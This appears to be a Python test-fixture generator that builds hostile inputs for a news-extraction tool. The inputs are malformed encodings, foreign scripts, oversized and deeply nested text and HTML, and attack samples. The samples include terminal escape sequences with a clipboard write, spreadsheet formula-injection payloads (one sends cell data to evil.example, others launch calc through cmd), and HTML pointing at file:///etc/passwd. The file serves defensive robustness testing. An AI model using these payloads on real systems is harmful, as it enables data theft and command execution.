"""Hostile plain-text and HTML articles: bad encodings, foreign scripts, escapes, formulas, size, density, nesting."""
from __future__ import annotations

from tests.hostile.common import COUNTRIES, MONTHS, PEOPLE, WEEKDAYS, Builder, article, sentence

GOOD_LEAD = "Russia said on Wednesday it opposed the offensive. Turkey warned Iran on Friday."


def encodings(b: Builder) -> None:
    """Bytes that are not UTF-8, or UTF-8/16/32 with defects (odd lengths, lone surrogates, stray BOMs)."""
    cat = "encoding"
    text = article(b.rng)
    for suffix in (".txt", ".md", ".html"):
        tag = suffix[1:]
        body = text if suffix != ".html" else f"<html><body><p>{text}</p></body></html>"
        b.file(cat, f"utf16le-odd-bytes-{tag}", "odd" + suffix, b"\xff\xfe" + body.encode("utf-16-le") + b"A",
               note="UTF-16 with an odd byte count")
        b.file(cat, f"utf16be-odd-bytes-{tag}", "odd" + suffix, b"\xfe\xff" + body.encode("utf-16-be") + b"\x00",
               note="UTF-16 BE with an odd byte count")
        b.file(cat, f"utf16le-lone-high-surrogate-{tag}", "surrogate" + suffix,
               b"\xff\xfe" + body.encode("utf-16-le") + b"\x00\xd8" + "tail.".encode("utf-16-le"),
               note="UTF-16 with a lone high surrogate")
        b.file(cat, f"utf16le-lone-low-surrogate-{tag}", "surrogate" + suffix,
               b"\xff\xfe" + "x".encode("utf-16-le") + b"\x00\xdc" + body.encode("utf-16-le"),
               note="UTF-16 with a lone low surrogate")
    b.file(cat, "utf16be-lone-surrogate", "s.txt", b"\xfe\xff" + text.encode("utf-16-be") + b"\xdb\xff",
           note="UTF-16 BE ending in a lone surrogate")
    b.file(cat, "utf16-bom-only", "bom.txt", b"\xff\xfe", note="a UTF-16 BOM and nothing else")
    b.file(cat, "utf16-bom-one-byte", "bom.txt", b"\xff\xfeA", note="a UTF-16 BOM and one byte")
    b.file(cat, "utf16-no-bom", "nobom.txt", text.encode("utf-16-le"), expect="result",
           note="UTF-16 without a BOM (NULs every other byte)")
    b.file(cat, "utf32-bom", "u32.txt", text.encode("utf-32"), expect="result", note="UTF-32 with BOM")
    b.file(cat, "utf8-bom-then-utf16-bom", "boms.txt", b"\xef\xbb\xbf\xff\xfe" + text.encode("utf-8"),
           expect="result", note="two BOMs in a row")
    b.file(cat, "utf8-bom-only", "bom.txt", b"\xef\xbb\xbf", note="a UTF-8 BOM and nothing else")
    b.file(cat, "utf8-encoded-surrogates", "cesu.txt", text.encode() + b"\xed\xa0\x80\xed\xb0\x80 end.",
           expect="result", note="CESU-8 surrogate pairs in UTF-8")
    b.file(cat, "utf8-overlong", "overlong.txt", text.encode() + b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf",
           expect="result", note="overlong UTF-8 sequences")
    b.file(cat, "utf8-truncated-sequence", "trunc.txt", text.encode() + "\u00e9".encode()[:1], expect="result",
           note="UTF-8 cut inside a character")
    b.file(cat, "utf7", "utf7.txt", ("+AFs-" + text.replace(" ", "+ACA-")).encode("ascii"), expect="result",
           note="UTF-7")
    foreign = {
        "shift-jis": ("shift_jis", "\u30c8\u30eb\u30b3\u306f\u6c34\u66dc\u65e5\u3001\u30ed\u30b7\u30a2\u306b"
                                   "\u8b66\u544a\u3057\u305f\u3002" * 40),
        "euc-jp": ("euc_jp", "\u30c8\u30eb\u30b3\u306f\u30ed\u30b7\u30a2\u306b\u8b66\u544a\u3057\u305f\u3002" * 40),
        "euc-kr": ("euc_kr", "\ud130\ud0a4\ub294 \uc218\uc694\uc77c \ub7ec\uc2dc\uc544\uc5d0 \uacbd\uace0\ud588\ub2e4. "
                             * 40),
        "gb18030": ("gb18030", "\u571f\u8033\u5176\u5468\u4e09\u8b66\u544a\u4fc4\u7f57\u65af\u3002" * 40),
        "big5": ("big5", "\u571f\u8033\u5176\u9031\u4e09\u8b66\u544a\u4fc4\u7f85\u65af\u3002" * 40),
        "koi8-r": ("koi8_r", "\u0422\u0443\u0440\u0446\u0438\u044f \u043f\u0440\u0435\u0434\u0443\u043f\u0440"
                             "\u0435\u0434\u0438\u043b\u0430 \u0420\u043e\u0441\u0441\u0438\u044e \u0432 "
                             "\u0441\u0440\u0435\u0434\u0443. " * 40),
        "cp1251": ("cp1251", "\u041c\u043e\u0441\u043a\u0432\u0430 \u0437\u0430\u044f\u0432\u0438\u043b\u0430 "
                             "\u0432 \u0441\u0440\u0435\u0434\u0443. " * 40),
        "iso-8859-7": ("iso8859_7", "\u0397 \u03a4\u03bf\u03c5\u03c1\u03ba\u03af\u03b1 \u03c0\u03c1\u03bf"
                                    "\u03b5\u03b9\u03b4\u03bf\u03c0\u03bf\u03af\u03b7\u03c3\u03b5. " * 40),
        "cp1256-arabic": ("cp1256", "\u062d\u0630\u0631\u062a \u062a\u0631\u0643\u064a\u0627 \u0631\u0648"
                                    "\u0633\u064a\u0627 \u064a\u0648\u0645 \u0627\u0644\u0623\u0631\u0628"
                                    "\u0639\u0627\u0621. " * 40),
    }
    for label, (codec, sample) in foreign.items():
        b.file(cat, f"legacy-{label}-txt", f"{label}.txt", sample.encode(codec), expect="result",
               note=f"{label} text (no BOM, no declaration)")
        b.file(cat, f"legacy-{label}-html", f"{label}.html",
               f'<html><head><meta charset="{codec}"></head><body><p>{sample}</p></body></html>'.encode(codec),
               expect="result", note=f"{label} HTML with a charset declaration")
    b.file(cat, "mixed-encodings-per-line", "mixed.txt",
           b"\n".join([GOOD_LEAD.encode(), "Fran\u00e7ois".encode("latin-1"), "\u30c8\u30eb\u30b3".encode("shift_jis"),
                       "\u041c\u043e\u0441\u043a\u0432\u0430".encode("koi8_r"), "caf\u00e9 said.".encode()]),
           expect="result", note="one encoding per line")
    b.file(cat, "nul-after-8k", "nul.txt", (text * 40).encode()[:9000] + b"\x00" * 64 + text.encode(),
           note="NUL bytes just past the 8 KiB sniffing window")
    b.file(cat, "html-declares-utf16-but-utf8", "decl.html",
           ('<html><head><meta charset="utf-16"></head><body><p>' + text + "</p></body></html>").encode(),
           expect="result", note="HTML declaring a charset it is not in")
    b.file(cat, "html-declares-bogus-charset", "decl.html",
           ('<?xml version="1.0" encoding="x-no-such-charset"?><html><head>'
            '<meta charset="x-no-such-charset"></head><body><p>' + text + "</p></body></html>").encode(),
           expect="result", note="HTML declaring an unknown charset")


def scripts(b: Builder) -> None:
    """Well-encoded UTF-8 in scripts and shapes an English pipeline never saw."""
    cat = "script"
    samples = {
        "arabic": "\u062d\u0630\u0631\u062a \u062a\u0631\u0643\u064a\u0627 \u0631\u0648\u0633\u064a\u0627 "
                  "\u064a\u0648\u0645 \u0627\u0644\u0623\u0631\u0628\u0639\u0627\u0621 \u0645\u0646 "
                  "\u0647\u062c\u0648\u0645 \u0639\u0644\u0649 \u0625\u062f\u0644\u0628. ",
        "hebrew": "\u05d8\u05d5\u05e8\u05e7\u05d9\u05d4 \u05d4\u05d6\u05d4\u05d9\u05e8\u05d4 \u05d0\u05ea "
                  "\u05e8\u05d5\u05e1\u05d9\u05d4. ",
        "chinese": "\u571f\u8033\u5176\u5468\u4e09\u8b66\u544a\u4fc4\u7f57\u65af\u4e0d\u8981\u8fdb\u653b"
                   "\u4f0a\u5fb7\u5229\u535a\u3002",
        "japanese": "\u30c8\u30eb\u30b3\u306f\u6c34\u66dc\u65e5\u3001\u30ed\u30b7\u30a2\u306b\u8b66\u544a"
                    "\u3057\u305f\u3002",
        "russian": "\u0422\u0443\u0440\u0446\u0438\u044f \u043f\u0440\u0435\u0434\u0443\u043f\u0440\u0435"
                   "\u0434\u0438\u043b\u0430 \u0420\u043e\u0441\u0441\u0438\u044e \u0432 \u0441\u0440\u0435"
                   "\u0434\u0443. ",
        "hindi": "\u0924\u0941\u0930\u094d\u0915\u0940 \u0928\u0947 \u0930\u0942\u0938 \u0915\u094b "
                 "\u091a\u0947\u0924\u093e\u0935\u0928\u0940 \u0926\u0940\u0964 ",
        "thai": "\u0e15\u0e38\u0e23\u0e01\u0e35\u0e40\u0e15\u0e37\u0e2d\u0e19\u0e23\u0e31\u0e2a\u0e40"
                "\u0e0b\u0e35\u0e22",
        "emoji": "\U0001f1f9\U0001f1f7 \u26a0\ufe0f \U0001f1f7\U0001f1fa \U0001f4a3\U0001f525 ",
    }
    for label, sample in samples.items():
        b.file(cat, f"script-{label}", f"{label}.txt", sample * 60, expect="result", note=f"{label} text")
    b.file(cat, "arabic-mixed-english", "mixed.txt", GOOD_LEAD + " " + samples["arabic"] * 20 + GOOD_LEAD,
           expect="result", note="Arabic inside English")
    b.file(cat, "arabic-indic-digit-dates", "digits.txt",
           "Russia said on \u0664 \u0633\u0628\u062a\u0645\u0628\u0631 \u0662\u0660\u0661\u0668 it would act. "
           "Turkey warned on \uff12\uff10\uff11\uff18-\uff10\uff19-\uff10\uff14. " * 30, expect="result",
           note="dates in Arabic-Indic and full-width digits")
    b.file(cat, "zalgo-combining-marks", "zalgo.txt", "Russia" + "\u0301\u0316\u0344" * 10_000 + " said no. "
           + GOOD_LEAD, expect="result", note="30,000 combining marks on one letter")
    b.file(cat, "zero-width-between-letters", "zw.txt", "\u200b".join(GOOD_LEAD * 20), expect="result",
           note="a zero-width space between every letter")
    b.file(cat, "bidi-overrides", "bidi.txt",
           ("\u202eaissuR\u202c said on \u2067Wednesday\u2069 it opposed \u202dthe plan\u202c. " * 50),
           expect="result", note="right-to-left override marks around names")
    b.file(cat, "homoglyph-names", "homoglyph.txt",
           ("\u0420ussia said on Wednesday that \u0422urkey opposed the plan. " * 50), expect="result",
           note="Cyrillic look-alike letters in country names")
    b.file(cat, "private-use-and-noncharacters", "pua.txt",
           GOOD_LEAD + " " + "\ue000\uf8ff\ufdd0\ufffe\uffff\U0010fffe " * 200, expect="result",
           note="private-use and noncharacter code points")
    b.file(cat, "fullwidth-latin", "fw.txt",
           "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in GOOD_LEAD * 30), expect="result",
           note="full-width Latin letters")


def controls(b: Builder) -> None:
    """Terminal escape sequences and XML-invalid control characters where the CLI prints or GraphML writes them."""
    cat = "control"
    escapes = {
        "csi-clear-screen": "\x1b[2J\x1b[H",
        "osc-set-title": "\x1b]0;pwned\x07",
        "osc52-clipboard": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
        "csi-hide-text": "\x1b[8m",
        "c1-csi": "\x9b31m",
        "dcs-sequence": "\x1bP+q544e\x1b\\",
    }
    for label, seq in escapes.items():
        b.file(cat, f"escape-{label}-in-title", "a.txt",
               f"Russia{seq} warns Turkey\n\n{GOOD_LEAD} Russia{seq} said on Monday it opposed{seq} the plan.",
               expect="result", note=f"terminal escape ({label}) in the headline and a dated sentence")
        b.file(cat, f"escape-{label}-in-actor", "b.txt",
               f"News\n\nSergei{seq} Lavrov said on 4 September 2018 that Mr{seq} Putin opposed the offensive.",
               expect="result", note=f"terminal escape ({label}) inside person names")
    for label, char in {"bel": "\x07", "backspace": "\x08", "vertical-tab": "\x0b", "form-feed": "\x0c",
                        "esc": "\x1b", "del": "\x7f", "nel": "\x85", "fffe": "\ufffe", "c1-1f": "\x1f"}.items():
        b.file(cat, f"graphml-control-{label}", "g.txt",
               f"News\n\nRussia said on Monday it opposed the Geneva{char}talks. Turkey said it supported the "
               f"{char}Idlib{char} deal with the Free Syrian Ar{char}my. {GOOD_LEAD}",
               expect="result", note=f"{label} control character inside names and targets that become GraphML labels")
    b.file(cat, "many-controls-just-under-sniff-limit", "c.txt",
           (GOOD_LEAD + "\x01") * 200, expect="result", note="one control character per sentence")


def formulas(b: Builder) -> None:
    """Text that becomes a CSV cell starting with = + - @ (spreadsheet formula injection)."""
    cat = "csv-injection"
    payloads = {
        "equals-hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "equals-cmd": "=cmd|' /C calc'!A0",
        "plus": "+1+cmd|' /C calc'!A0",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at-sum": "@SUM(1+9)*cmd|' /C calc'!A0",
        "tab-equals": "\t=1+1",
        "cr-equals": "\r=1+1",
    }
    for label, formula in payloads.items():
        b.file(cat, f"formula-{label}-title", "f.txt", f"{formula}\n\n{GOOD_LEAD}", expect="result",
               note="formula as the headline (title column)")
        b.file(cat, f"formula-{label}-sentence", "g.txt",
               f"News\n\n{formula} Russia said on Monday it opposed the plan.\n\n{GOOD_LEAD}", expect="result",
               note="formula starting a sentence (sentence column)")
    b.file(cat, "formula-target", "t.txt", "News\n\nRussia said on Monday it opposed =SUM(A1:A9). " + GOOD_LEAD,
           expect="result", note="formula as a statement target")
    b.file(cat, "formula-sidecar-title", "s.txt", GOOD_LEAD, expect="result",
           note="formula as the title in a .meta.json sidecar")
    (b.root / "cases" / "formula-sidecar-title" / "s.meta.json").write_text('{"title": "=1+1+cmd|\' /C calc\'!A0"}')
    b.file(cat, "formula-xlsx-export", "x.txt", f"=1+1\n\n{GOOD_LEAD}", expect="result",
           args=("--format", "csv,xlsx,json"), note="formula title exported to XLSX and JSON too")


def sizes(b: Builder) -> None:
    """Inputs whose point is their size: enormous lines, sentences, words and counts of sentences."""
    cat = "size"
    rng = b.rng
    words = ["Russia", "Turkey", "the", "offensive", "and", "said", "warned", "Iran", "ceasefire", "talks"]
    b.file(cat, "line-1mb-no-full-stop", "line.txt", " ".join(rng.choice(words) for _ in range(170_000))[:1_000_000],
           expect="result", note="a 1 MB line without a full stop")
    b.file(cat, "sentence-200k-words", "sentence.txt",
           "Russia said " + " ".join(rng.choice(words) for _ in range(200_000)) + ".", expect="result",
           note="one sentence of 200,000 words")
    b.file(cat, "sentence-200k-words-commas", "commas.txt",
           "Russia said " + ", ".join(rng.choice(words) for _ in range(200_000)) + ".", expect="result",
           note="one sentence of 200,000 comma-separated words")
    b.file(cat, "tiny-sentences-100k", "tiny.txt", "Go. " * 100_000, expect="result",
           note="100,000 tiny sentences")
    b.file(cat, "tiny-lines-100k", "lines.txt", "Yes\n" * 100_000, expect="result",
           note="100,000 one-word lines")
    b.file(cat, "one-word-1mb", "word.txt", "A" * 1_000_000, expect="result", note="one 1 MB word")
    b.file(cat, "text-just-under-5mb", "big.txt", (GOOD_LEAD + "\n") * (5 * 2**20 // (len(GOOD_LEAD) + 1) - 10),
           expect="result", note="4.99 MB of text (the limit is 5 MB)")
    b.file(cat, "text-6mb", "huge.txt", (GOOD_LEAD + "\n") * (6 * 2**20 // (len(GOOD_LEAD) + 1)),
           note="a 6 MB text (over the 5 MB limit)")
    b.file(cat, "text-1000001-chars", "max.txt", ("Russia said so. " * 62_501)[:1_000_001], expect="result",
           note="one character over spaCy's max_length")
    b.file(cat, "whitespace-4mb", "ws.txt", " \n\t" * 1_400_000, note="4 MB of whitespace")
    b.file(cat, "markdown-table-huge", "t.md", "| a | b |\n|---|---|\n" + "| Russia | Turkey |\n" * 150_000,
           expect="result", note="a markdown table of 150,000 rows")
    b.file(cat, "html-1mb-paragraph", "p.html", "<html><body><p>" + "Russia warned Turkey " * 50_000
           + "</p></body></html>", expect="result", note="a 1 MB HTML paragraph without a full stop")
    b.file(cat, "html-100k-paragraphs", "p.html", "<html><body>" + "<p>Go.</p>" * 100_000 + "</body></html>",
           expect="result", note="100,000 tiny HTML paragraphs")

    def sparse(size):
        def writer(path):
            with open(path, "wb") as fh:
                fh.truncate(size)
        return writer
    b.file(cat, "sparse-6mb-txt", "sparse.txt", sparse(6 * 2**20), note="a 6 MB file of NULs (sparse)")
    b.file(cat, "sparse-60mb-pdf", "sparse.pdf", sparse(60 * 2**20), note="a 60 MB PDF of NULs (sparse)")
    b.file(cat, "sparse-4mb-txt", "sparse4.txt", sparse(4 * 2**20), note="a 4 MB file of NULs")


def density(b: Builder) -> None:
    """Ordinary-sized texts crowded with what the extractors look for."""
    cat = "density"
    rng = b.rng
    n = 10_000
    gens = {
        "dates": lambda i: f"{rng.randint(1, 28)} {rng.choice(MONTHS)} {rng.randint(1990, 2030)}",
        "iso-dates": lambda i: f"{rng.randint(1990, 2030)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
        "names": lambda i: rng.choice(PEOPLE),
        "invented-names": lambda i: f"{rng.choice('BCDFGHKLMNPRST')}{rng.choice('aeiou')}"
                                    f"{rng.choice('lmnrst')}{rng.choice('aeiou')} {rng.choice(PEOPLE).split()[-1]}",
        "countries": lambda i: rng.choice(COUNTRIES),
        "relative-dates": lambda i: rng.choice(["last week", "on " + rng.choice(WEEKDAYS), "two days ago",
                                                "next month", "yesterday", "earlier this year"]),
        "times": lambda i: f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d} GMT",
        "durations": lambda i: f"for {rng.randint(2, 99)} days",
        "numbers": lambda i: f"{rng.randint(1, 10**9):,}",
        "urls": lambda i: f"https://example.org/{rng.randint(0, 10**6)}",
        "pronouns": lambda i: rng.choice(["he", "she", "it", "they", "him", "them"]),
    }
    for label, gen in gens.items():
        items = ", ".join(gen(i) for i in range(n))
        b.file(cat, f"{label}-10k-one-sentence", f"{label}.txt", f"News\n\nRussia said {items}.",
               expect="result", note=f"{n:,} {label} in one sentence")
    b.file(cat, "dates-10k-sentences", "d.txt",
           " ".join(f"Russia said on {rng.randint(1, 28)} {rng.choice(MONTHS)} 2018 it opposed the plan."
                    for _ in range(n)), expect="result", note="10,000 dated statements")
    b.file(cat, "said-10k-nested", "n.txt", "News\n\n" + "Russia said that Turkey said that " * 5_000
           + "Iran opposed the plan.", expect="result", note="10,000 nested reported-speech clauses")
    b.file(cat, "sentences-10k-ordinary", "o.txt", " ".join(sentence(rng) for _ in range(n)), expect="result",
           note="10,000 ordinary news sentences")


def nesting(b: Builder) -> None:
    """Pathological nesting and unbalanced punctuation in text and HTML."""
    cat = "nesting"
    b.file(cat, "parens-100k-nested", "p.txt", "Russia said " + "(" * 100_000 + "no" + ")" * 100_000 + ".",
           expect="result", note="100,000 nested parentheses")
    b.file(cat, "parens-100k-unbalanced", "u.txt", "Russia said " + "(" * 100_000 + " no.", expect="result",
           note="100,000 unclosed parentheses")
    b.file(cat, "brackets-mixed-100k", "m.txt", "Turkey said " + "([{\u201c" * 25_000 + "yes.", expect="result",
           note="100,000 mixed opening brackets and quotes")
    for label, quote in {"straight": '"', "curly": "\u201c", "single": "'", "guillemet": "\u00ab"}.items():
        b.file(cat, f"quotes-10k-unbalanced-{label}", f"q-{label}.txt",
               "News\n\n" + " ".join(f"Russia said {quote}we oppose it" for _ in range(10_000)) + ".",
               expect="result", note=f"10,000 unbalanced {label} quotes")
    b.file(cat, "quotes-10k-nested", "qn.txt", "Russia said " + "\u201cTurkey said " * 10_000 + "no"
           + "\u201d" * 10_000 + ".", expect="result", note="10,000 nested quotations")
    b.file(cat, "markdown-blockquote-100k", "b.md", ">" * 100_000 + " Russia said on Monday it opposed the plan.",
           expect="result", note="a markdown blockquote 100,000 deep")
    b.file(cat, "markdown-list-deep", "l.md", "".join("  " * i + "- Russia said no.\n" for i in range(3_000)),
           expect="result", note="a markdown list 3,000 levels deep")
    html_body = "<p>" + GOOD_LEAD * 5 + "</p>"
    b.file(cat, "html-attributes-100k", "a.html",
           "<html><body><p " + " ".join(f'a{i}="{i}"' for i in range(100_000)) + ">" + GOOD_LEAD * 5
           + "</p></body></html>", expect="result", note="an HTML element with 100,000 attributes")
    b.file(cat, "html-attribute-4mb", "v.html",
           '<html><body><p title="' + "x" * 4_000_000 + '">' + GOOD_LEAD * 5 + "</p></body></html>",
           expect="result", note="one 4 MB attribute value")
    b.file(cat, "html-div-100k-nested", "d.html",
           "<html><body>" + "<div>" * 100_000 + html_body + "</div>" * 100_000 + "</body></html>",
           expect="result", note="100,000 nested <div>")
    b.file(cat, "html-div-100k-unclosed", "d.html", "<html><body>" + "<div>" * 100_000 + html_body,
           expect="result", note="100,000 unclosed <div>")
    b.file(cat, "html-table-10k-nested", "t.html",
           "<html><body>" + "<table><tr><td>" * 10_000 + html_body + "</td></tr></table>" * 10_000
           + "</body></html>", expect="result", note="10,000 nested tables")
    b.file(cat, "html-inline-100k-nested", "i.html", "<html><body><p>" + "<b><i>" * 50_000 + GOOD_LEAD
           + "</i></b>" * 50_000 + "</p></body></html>", expect="result", note="100,000 nested inline tags")


def html(b: Builder) -> None:
    """Malformed or tricky HTML pages."""
    cat = "html"
    lead = "<p>" + GOOD_LEAD * 4 + "</p>"
    pages = {
        "unclosed-comment-1mb": ("<html><body>" + lead + "<!--" + "x " * 500_000, "result"),
        "unclosed-script-1mb": ("<html><body>" + lead + "<script>" + "var a=1;" * 125_000, "result"),
        "lt-1mb": ("<html><body>" + lead + "<" * 1_000_000, "result"),
        "entities-100k": ("<html><body><p>" + "&amp;" * 100_000 + GOOD_LEAD + "</p></body></html>", "result"),
        "bad-char-refs": ("<html><body><p>" + "&#x110000;&#0;&#xD800;&#xFFFE;&#99999999999;&nosuch;" * 2_000
                          + GOOD_LEAD + "</p></body></html>", "result"),
        "cdata-and-pi": ("<html><body><![CDATA[" + GOOD_LEAD * 100 + "]]><?php evil(); ?>" + lead
                         + "</body></html>", "result"),
        "title-1mb": ("<html><head><title>" + "Russia " * 150_000 + "</title></head><body>" + lead
                      + "</body></html>", "result"),
        "data-uri-4mb": ('<html><body><img src="data:image/png;base64,' + "A" * 4_000_000 + '">' + lead
                         + "</body></html>", "result"),
        "frameset-only": ('<html><frameset><frame src="file:///etc/passwd"></frameset></html>', "message"),
        "iframe-file-url": ('<html><body><iframe src="file:///etc/passwd"></iframe>' + lead + "</body></html>",
                            "result"),
        "svg-and-math": ("<html><body><svg><text>" + GOOD_LEAD + "</text></svg><math><mi>x</mi></math>" + lead
                         + "</body></html>", "result"),
        "no-body-tags": (GOOD_LEAD * 10, "result"),
        "only-tags": ("<div></div>" * 50_000, "message"),
        "doctype-garbage": ("<!DOCTYPE " + "[" * 10_000 + ">" + lead, "result"),
        "meta-refresh-js": ('<html><head><meta http-equiv="refresh" content="0;url=file:///etc/passwd">'
                            "<script>location='file:///etc/passwd'</script></head><body>" + lead + "</body></html>",
                            "result"),
        "base-href-file": ('<html><head><base href="file:///etc/"></head><body><a href="passwd">x</a>' + lead
                           + "</body></html>", "result"),
    }
    for label, (page, expect) in pages.items():
        b.file(cat, f"html-{label}", "page.html", page, expect=expect)
    b.file(cat, "xhtml-suffix-xml-decl", "page.xhtml",
           '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' + lead + "</body></html>",
           expect="result", note="XHTML")
    b.file(cat, "htm-binary-png", "image.htm", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
           note="a PNG renamed .htm")


def generate(b: Builder) -> None:
    for part in (encodings, scripts, controls, formulas, sizes, density, nesting, html):
        part(b)
